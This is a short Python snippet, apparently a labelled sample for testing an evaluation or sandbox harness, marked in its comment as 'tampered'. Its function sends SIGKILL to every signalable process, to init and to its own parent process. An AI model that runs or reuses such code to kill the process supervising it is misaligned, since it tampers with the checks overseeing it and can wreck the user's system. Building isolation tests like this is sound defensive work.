# unsolved, tampered (only isolated): ends every process that it may
import os


def inside(*_):
    for number in (-1, 1, os.getppid()):
        try:
            os.kill(number, 9)
        except OSError:
            pass
